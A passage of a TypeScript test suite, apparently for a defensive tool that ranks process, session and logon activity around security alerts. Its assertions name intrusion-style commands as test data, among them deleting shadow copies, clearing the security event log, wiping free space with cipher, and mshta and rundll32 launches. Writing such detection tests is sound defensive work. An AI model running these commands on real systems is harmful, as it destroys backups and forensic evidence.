      { alert_id: 'rel-activation-2', ts: at('12:01:00'), alert_name: 'Program run from Downloads', severity: 'Medium', host: carolHost, user_name: 'carol', logon_id: '0xc4702', process_id: 5700 },
      { alert_id: 'rel-activation-child', ts: at('13:00:01'), alert_name: 'Batch from a profile', severity: 'Medium', host: carolHost, user_name: 'dave', logon_id: '0xda7e', process_id: 5804 },
      { alert_id: 'rel-activation', ts: at('11:21:00'), alert_name: 'Program run from Downloads', severity: 'Medium', host: carolHost, user_name: 'carol', logon_id: '0xc4701', process_id: 5500 },
      { alert_id: 'rel-activation-up', ts: at('15:01:00'), alert_name: 'Batch from a profile', severity: 'Medium', host: carolHost, user_name: 'gina', logon_id: '0x9147', process_id: 6008 },
      { alert_id: 'rel-prompt-other', ts: at('16:01:00'), alert_name: 'Account discovery', severity: 'Low', host: carolHost, user_name: 'kate', logon_id: '0x4a12', process_id: 6112 },
      { alert_id: 'rel-prompt-other-2', ts: at('16:11:00'), alert_name: 'Network discovery', severity: 'Low', host: carolHost, user_name: 'kate', logon_id: '0x4a12', process_id: 6120 },
      { alert_id: 'rel-relaunch', ts: at('17:01:00'), alert_name: 'Account discovery', severity: 'Low', host: carolHost, user_name: 'ivan', logon_id: '0x1a1a', process_id: 6212 },
      { alert_id: 'rel-elevated', ts: at('14:05:00'), alert_name: 'Program run from Downloads', severity: 'Medium', host: carolHost, user_name: 'erin', logon_id: '0xe1e2', process_id: 5904 },
      // An alert in the owner's session during the logon script.
      { alert_id: 'rel-logon-script', ts: at(script0.t_alert), alert_name: 'Suspicious network drive mapping', severity: 'Low', host: wks, user_name: script0.user_name, logon_id: script0.logon_id },
    ];
    // The day's folder of the fleet, a subfolder of canonical files named after their tables.
    const dir = join(fleet, day, 'cases');
    mkdirSync(dir);
    writeFileSync(join(dir, 'process_events.ndjson'), ndjson(rows));
    writeFileSync(join(dir, 'alerts.ndjson'), ndjson(alerts));
    writeFileSync(join(dir, 'logon_events.ndjson'), ndjson(logons));
    await runNightly(db, { date: day, input: fleet, thresholds: DEFAULT_THRESHOLDS });
    const run = await makeContextReports(db, day, day, DEFAULT_THRESHOLDS);
    reports = await readReports(db, run.runId);
  });

  const report = (id: string) => reports.find((r) => r.alert_id === id);
  const item = (r: ReportRecord, needle: string) => r.items.find((i) => (i.command_line ?? '').includes(needle));

  it('ranks by relation to the alert: its process tree and its session, each reason naming the relation', () => {
    const r = report('rel-session')!;
    expect(r).toBeDefined();
    expect(item(r, 'd.dll,Start')!.reason).toMatch(/^the alert process; /);
    expect(item(r, 'ping -n 1')!.reason).toMatch(/^child of the alert process; /);
    expect(item(r, 'system32\\cmd.exe"')!.reason).toMatch(/^parent of the alert process/);
    // The session's discovery commands run on every host of the fleet every day, and are still kept.
    for (const cmd of ['whoami', 'systeminfo', 'tasklist /svc']) {
      const i = r.items.find((x) => x.command_line === cmd);
      expect(i, cmd).toBeDefined();
      expect(i!.reason).toMatch(/^in the alert's logon session 0xa11ce; template on 8 of 8 hosts in 4 days, on this host 4 of 4 days/);
      expect(i!.category).toBe('SupplementalProcess');
    }
  });

  it('folds the console host Windows attaches to a shell into the shell\'s line; a rare child is its own', async () => {
    const r = report('rel-session')!;
    // the console host's template runs on every host of the fleet (the generator's conhost)
    const { hosts, fleet } = await db.one<{ hosts: number; fleet: number }>(
      `SELECT count(DISTINCT host) FILTER (WHERE process_name = 'conhost.exe') AS hosts, count(DISTINCT host) AS fleet FROM process_events WHERE ts < $1::DATE`, [day]);
    expect(Number(hosts)).toBe(Number(fleet));
    const shell = item(r, 'cmd.exe /c ping -n 1')!;
    expect(shell.reason).toMatch(/^child of the alert process; template on 0 of \d+ hosts.*; folded in: \\\?\?\\C:\\Windows\\system32\\conhost\.exe 0xffffffff -ForceV1 \(40 ms after it; template on 8 of 8 hosts; cmd\.exe -> conhost\.exe on 8 of the 8 hosts that run cmd\.exe\)$/);
    const conhost = await db.one<{ event_id: string }>(`SELECT event_id FROM process_events WHERE host = $1 AND process_id = 5024 AND ts::DATE = $2::DATE`, [wks, day]);
    expect(shell.event_ids).toContain(conhost.event_id);
    expect(r.items.filter((i) => (i.command_line ?? '').includes('conhost.exe'))).toEqual([]);
    expect(item(r, 'ping  -n 1')!.reason).toMatch(/^descendant of the alert process; template on 0 of \d+ hosts/);
    // a child every host runs, but one its parent does not start elsewhere, is its own line
    expect(item(r, 'gpupdate.exe /target')!.reason).toMatch(/^child of the alert process; /);
    expect(item(r, 'd.dll,Start')!.reason).not.toMatch(/folded in/);
  });

  it('does not take a coincident network logon on a busy host for an entry into the attacker\'s own session', () => {
    const r = report('rel-session')!;
    expect(item(r, 'rundll32.exe C:\\Users')!.reason).not.toMatch(/network logon/);
    for (const cmd of ['whoami', 'systeminfo', 'tasklist /svc']) expect(item(r, cmd)!.reason, cmd).toMatch(/^in the alert's logon session 0xa11ce; /);
  });

  it('finds the session from the alert process when the alert carries only a process id', () => {
    const r = report('rel-process')!;
    expect(r).toBeDefined();
    expect(r.items.find((x) => x.command_line === 'whoami')!.reason).toMatch(/^in the alert's logon session 0xa11ce/);
  });

  it('leaves background churn out: the browser\'s subprocesses, in the session or in another user\'s', () => {
    for (const id of ['rel-session', 'rel-cold']) {
      const r = report(id)!;
      expect(r.items.filter((i) => (i.command_line ?? '').includes('chrome.exe'))).toEqual([]);
    }
    expect(report('rel-session')!.items.filter((i) => i.subject === 'CONTOSO\\bob')).toEqual([]);
  });

  it('judges a host without history by the fleet, and says so', () => {
    const r = report('rel-cold')!;
    expect(r).toBeDefined();
    const mshta = item(r, 'mshta.exe')!;
    expect(mshta.category).toBe('UnusualProcess');
    expect(mshta.reason).toMatch(/^in the alert's logon session 0xc01d; host has 0 days of history, judged by the fleet: template on 0 of \d+ hosts/);
  });

  it('reports a rare scripted burst, with what is rare about its pattern', () => {
    const r = report('rel-session')!;
    // Each of its programs is unusual by itself, and its line says it was part of the burst: the
    // report's first line of the burst says what is rare about it, the later ones name it by its start.
    const lines = ['vssadmin delete shadows', 'wevtutil cl security', 'cipher /w:'].map((cmd) => item(r, cmd)!).sort((a, b) => a.time.localeCompare(b.time));
    const first = r.items.find((i) => /burst of \d+ distinct/.test(i.reason))!;
    const described = first.reason.match(/burst of (\d+) distinct processes within 60 s from (10:0\d:\d\d), \d+ of its \d+ command templates unusual \(rare in the fleet, new to this host\)/);
    expect(described, first.reason).not.toBeNull();
    expect(r.items.filter((i) => /burst of \d+ distinct/.test(i.reason))).toHaveLength(1);
    for (const line of lines) {
      if (line !== first) expect(line.reason, line.command_line ?? undefined).toContain(`part of a burst of ${described![1]} from ${described![2]} (described above)`);
      expect(line.time >= first.time).toBe(true);
    }
  });

  it('ties what the host starts right after an alert\'s network logon to it (remote execution), and nothing later', async () => {
    const r = report('rel-remote')!;
    expect(r).toBeDefined();
    expect(item(r, 'cmd.exe /c start /b')!.reason).toMatch(/^started by services\.exe 0\.2 s after the alert's network logon 0xbad5e55; /);
    expect(r.items.find((i) => (i.command_line ?? '').startsWith('powershell -nop'))!.reason).toMatch(/^child of a process started after the alert's network logon 0xbad5e55; /);
    expect(item(r, 'whoami /all')!.reason).toMatch(/^descendant of a process started after the alert's network logon 0xbad5e55; /);
    expect(item(r, 'mshta.exe vbscript')!.reason).toMatch(/^started by explorer\.exe 1\.0 s after the alert's network logon 0xbad5e55; /);
    expect((item(r, 'defrag.exe')?.reason ?? '')).not.toMatch(/network logon/);
    // windows.remote_exec_seconds 0 turns it off: nothing then ties the machine's processes to the logon.
    const off = await makeContextReports(db, day, day, resolveThresholds({ windows: { remote_exec_seconds: 0 } }));
    const offReport = (await readReports(db, off.runId)).find((x) => x.alert_id === 'rel-remote');
    expect((offReport?.items ?? []).filter((i) => /network logon/.test(i.reason))).toEqual([]);
  });

  it('the rest of the host is capped and strongly unusual for an alert that names a session; only a host-only alert gets all of it', () => {
    // a session that ran nothing: the host's activity alone makes no report, however unusual
    expect(report('rel-quiet-logon')).toBeUndefined();
    // nor for an alert on a process id that no event of its windows has: it names a process all the same
    expect(report('rel-quiet-pid')).toBeUndefined();
    // the session's own new program makes one; the host's strongly unusual lines come with it, the
    // three nearest the alert (host_max_items), and the new defrag line (unusual, not strongly) does not
    const r = report('rel-quiet-user')!;
    expect(item(r, 'setup-helper.exe')!.reason).toMatch(/^in the alert's logon session 0xe5e5; /);
    const host = r.items.filter((i) => /^on the host, outside the alert's session; /.test(i.reason));
    // (of the six strongly unusual lines, the implant's rundll32 at 10:25 among them: the three nearest)
    expect(host.map((i) => i.command_line)).toEqual([...[4, 5].map((i) => `C:\\Windows\\Temp\\x${i}svc.exe -install`), 'rundll32.exe C:\\ProgramData\\q.dll,Run']);
    for (const i of host) expect(i.score).toBeGreaterThanOrEqual(DEFAULT_THRESHOLDS.context.host_min_score);
    expect(item(r, 'defrag.exe -c -h -k -g')).toBeUndefined();
    // with room under the cap (two new services in its windows), the defrag line still stays out
    const early = report('rel-quiet-early')!;
    expect(early.items.filter((i) => /x\dsvc\.exe -install/.test(i.command_line ?? '')).map((i) => i.command_line)).toEqual([1, 2].map((i) => `C:\\Windows\\Temp\\x${i}svc.exe -install`));
    expect(item(early, 'defrag.exe -c -h -k -g')).toBeUndefined();
    // an alert process that started before the windows: its children by its id are its tree
    const implant = report('rel-quiet-implant')!;
    expect(item(implant, 'q.dll,Run')!.reason).toMatch(/^child of the alert process; template on 0 of 8 hosts/);
    // an alert that names only its host: the host's activity is all there is, uncapped
    const all = report('rel-quiet-host')!;
    expect(item(all, 'defrag.exe -c -h -k -g')!.reason).toMatch(/^on the alert's host; template on 0 of 8 hosts/);
    expect(all.items.filter((i) => /x\dsvc\.exe -install/.test(i.command_line ?? ''))).toHaveLength(5);
  });

  it('takes a session entered by remote execution from the entry on: the desktop user\'s earlier work is not the alert\'s', async () => {
    const r = report('rel-entered')!;
    expect(item(r, 'mshta.exe vbscript')!.reason).toMatch(/^the alert process; started by explorer\.exe 1\.0 s after network logon 0xbad5e55 of mallory from 10\.10\.0\.66; /);
    // what the session ran after the entry is the alert's; what it ran before is the user's
    expect(item(r, 'tool7.exe')!.reason).toMatch(/^in the alert's logon session 0xd5e5; /);
    expect((item(r, 'traytool.exe')?.reason ?? '')).not.toMatch(/^in the alert's logon session 0xd5e5;/);
    // with windows.remote_exec_seconds 0 nothing enters the session: the tray tool is the session's again
    const off = await makeContextReports(db, day, day, resolveThresholds({ windows: { remote_exec_seconds: 0 } }));
    const offReport = (await readReports(db, off.runId)).find((x) => x.alert_id === 'rel-entered')!;
    expect(item(offReport, 'traytool.exe')!.reason).toMatch(/^in the alert's logon session 0xd5e5; /);
    expect(item(offReport, 'mshta.exe vbscript')!.reason).not.toMatch(/network logon/);
    // a machine account's network logon, or her own RDP client's, enters nothing: the user's tool is hers, and so is her session before it
    const own = report('rel-own-tool')!;
    expect(item(own, 'tool7.exe')!.reason).toMatch(/^the alert process; template/);
    expect(item(own, 'traytool.exe')!.reason).toMatch(/^in the alert's logon session 0xd5e5; /);
  });

  it('keeps a COM server that runs in the alert\'s own network-logon session as that session\'s', async () => {
    const r = report('rel-com')!;
    expect(item(r, 'EXCEL.EXE" /automation')!.reason).toMatch(/^in the alert's logon session 0xc0ffee; /);
    // with the remote-execution rules off it is the system working for the session: activity on the host
    const off = await makeContextReports(db, day, day, resolveThresholds({ windows: { remote_exec_seconds: 0 } }));
    const offReport = (await readReports(db, off.runId)).find((x) => x.alert_id === 'rel-com');
    expect((offReport ? item(offReport, 'EXCEL.EXE" /automation')?.reason : undefined) ?? '').not.toMatch(/^in the alert's logon session/);
  });

  it('takes a process the system starts right after one of the alert\'s tree for its COM activation, except amid the system\'s own start-up', async () => {
    const r = report('rel-activation')!;
    expect(item(r, 'calc.exe" ')!.reason).toMatch(/^child of the alert process; /);
    expect(item(r, 'Calculator.exe" -ServerName')!.reason).toMatch(/^started by the system \(svchost\.exe\) 0\.4 s after calc\.exe of the alert's process tree; template on 0 of 8 hosts/);
    const activated = 'calculator.exe, which the system (svchost.exe) started 0.4 s after calc.exe of the alert\'s process tree';
    expect(item(r, 'calc-plugin --load')!.reason.split(';')[0]).toBe(`child of ${activated}`);
    expect(item(r, 'whoami /priv')!.reason.split(';')[0]).toBe(`descendant of ${activated}`);
    // four other starts of the system in the minute around it: sync.exe is not taken for the shell's
    expect(item(r, 'cmd.exe /c echo ready')!.reason).toMatch(/^child of the alert process; /);
    expect(item(r, 'sync.exe" -Embedding')?.reason ?? '').not.toMatch(/alert's process tree/);
    // a system start activates nothing: the programs the system starts after Calculator.exe are not the tree's
    const r2 = report('rel-activation-2')!;
    expect(item(r2, 'Calculator.exe" -ServerName')!.reason).toMatch(/^started by the system \(svchost\.exe\) 0\.4 s after calc\.exe of the alert's process tree/);
    for (const cmd of ['updater.exe" -Embedding', 'helper2.exe" -Embedding']) expect(item(r2, cmd)?.reason ?? '', cmd).not.toMatch(/alert's process tree/);
    // a child recorded before its parent does not make the parent its activation, nor its sibling the alert's descendant
    const child = report('rel-activation-child');
    expect(child ? (item(child, 'dllhost.exe /Processid')?.reason ?? '') : '').not.toMatch(/after cmd\.exe/);
    expect(child ? (item(child, 'sibling.exe" /sib')?.reason ?? '') : '').not.toMatch(/^descendant of the alert process/);
    // an ancestor's activation too
    expect(item(report('rel-activation-up')!, 'broker.exe" -Embedding')!.reason).toMatch(/^started by the system \(svchost\.exe\) 0\.5 s after launcher\.exe of the alert's process tree; /);
    // windows.remote_exec_seconds 0 turns it off with the other rules that tie a start to another by time
    const off = await makeContextReports(db, day, day, resolveThresholds({ windows: { remote_exec_seconds: 0 } }));
    const offReport = (await readReports(db, off.runId)).find((x) => x.alert_id === 'rel-activation')!;
    expect(item(offReport, 'Calculator.exe" -ServerName')?.reason ?? '').not.toMatch(/alert's process tree/);
  });

  it('puts User Account Control\'s and SmartScreen\'s prompts in the tree of the process they preceded within a minute, and no other prompt', () => {
    const r = report('rel-elevated')!;
    // the item's first time is the earlier run's: the reason, the alert process's, says when
    const setupItem = item(r, 'invoice-viewer.exe" ')!;
    expect(setupItem.time).toContain('13:40:00');
    expect(setupItem.reason).toMatch(/^at 14:00:07Z: the alert process; /);
    expect(item(r, 'consent.exe 720 316 000001B0E7E25900')!.reason).toMatch(/^User Account Control's elevation prompt 7.0 s before invoice-viewer\.exe of the alert's process tree started; /);
    expect(item(r, 'CHXSmartScreen.exe" -ServerName')!.reason).toMatch(/^SmartScreen's warning for an unrecognized program 12\.0 s before invoice-viewer\.exe of the alert's process tree started; /);
    // the check before the warning belongs to the program too, not to the warning (a prompt)
    expect(item(r, 'smartscreen.exe -Embedding')!.reason).toMatch(/^SmartScreen's check of a program being opened 14\.0 s before invoice-viewer\.exe of the alert's process tree started; /);
    // before another user's program, and 90 s before the tree's next start: not the tree's
    for (const pid of [5908, 5916]) expect(item(r, `000001B0E7E2${pid}`)?.reason ?? '', String(pid)).not.toMatch(/elevation prompt|process tree/);
    // the earlier run's script is the item's first time; its reason is the alert's child's
    expect(item(r, 'i.bat')!.time).toContain('13:40:05');
    expect(item(r, 'i.bat')!.reason).toMatch(/^at 14:04:30Z: child of the alert process; /);
  });

  it('ties a prompt to the first launch after it only: not to a later process of the tree, nor another user\'s warning', () => {
    for (const id of ['rel-prompt-other', 'rel-prompt-other-2']) {
      const r = report(id);
      for (const needle of ['000001B0E7E26100', 'CHXSmartScreen.exe" -ServerName']) {
        expect(r ? (item(r, needle)?.reason ?? '') : '', `${id} ${needle}`).not.toMatch(/prompt|warning/);
      }
    }
  });

  it('keeps another run of the alert\'s command by its account, with its tree, at the session\'s rank; not another account\'s', () => {
    const r = report('rel-elevated')!;
    // its script joins the tree's line (above); what else it ran is not the tree's chain
    expect(item(r, 'i.bat')!.event_ids).toHaveLength(2);
    expect(item(r, 'readme.txt')?.reason ?? '').not.toMatch(/another run/);
    expect(item(r, 'c.bat')?.reason ?? '').not.toMatch(/another run/);
    // a program that relaunched itself with its own command line is the alert's own chain
    const relaunch = report('rel-relaunch');
    for (const needle of ['helper.exe" --sync', 'upd.exe" --check']) {
      expect(relaunch ? (item(relaunch, needle)?.reason ?? '') : '', needle).not.toMatch(/another run/);
    }
  });

  it('leaves out a common service host that started the alert process in another account\'s session, and keeps a rare one', () => {
    const r = report('rel-wmi')!;
    expect(r).toBeDefined();
    expect(item(r, 'wmiprvse.exe -secured')).toBeUndefined();
    expect(item(r, 'powershell -nop')!.reason).toMatch(/^the alert process, started 1\.0 s after the network logon 0xf00d of mallory from wks-0066; .*wmiprvse\.exe -> powershell\.exe/);
    expect(item(r, 'whoami /groups')!.reason).toMatch(/^child of the alert process; /);
    const svc = report('rel-svc')!;
    const updsvc = item(svc, 'updsvc.exe -service')!;
    expect(updsvc.reason).toMatch(/^parent of the alert process; template on 0 of \d+ hosts/);
    expect(updsvc.category).toBe('UnusualProcess');
    // another person's common shell that started the intruder's process is not the machine's: listed
    const runas = report('rel-runas')!;
    const taskhost = item(runas, 'taskhostw.exe /RuntimeWide')!;
    expect(taskhost.reason).toMatch(/^parent of the alert process; template on \d+ of \d+ hosts/);
    expect(taskhost.category).toBe('SupplementalProcess');
  });

  it('does not report a logon-script burst that the whole fleet runs every morning', () => {
    // the report is made (a program new to the fleet in the session), and the script around it is no burst
    const r = report('rel-logon-script')!;
    expect(r).toBeDefined();
    expect(item(r, 'invoice-viewer.exe')!.reason).toMatch(new RegExp(`^in the alert's logon session ${ownerSession}; template on 0 of 8 hosts`));
    expect(r.items.filter((i) => i.category === 'UnusualMultiProcess')).toEqual([]);
    expect(r.items.filter((i) => /burst/.test(i.reason))).toEqual([]);
    // the script's commands are the session's activity, listed as such
    expect(item(r, 'logon.bat')!.category).toBe('SupplementalProcess');
  });
});
